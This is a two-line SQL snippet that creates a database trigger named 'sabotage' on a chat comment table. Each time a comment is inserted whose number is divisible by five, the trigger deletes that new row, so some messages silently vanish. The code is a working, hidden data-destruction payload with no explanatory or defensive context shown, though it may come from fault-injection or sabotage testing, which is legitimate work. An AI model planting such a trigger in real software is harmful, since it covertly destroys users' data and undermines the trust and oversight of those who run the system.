CREATE TRIGGER sabotage AFTER INSERT ON messaging_chat_comment WHEN NEW.number % 5 = 0
BEGIN DELETE FROM messaging_chat_comment WHERE id = NEW.id; END;
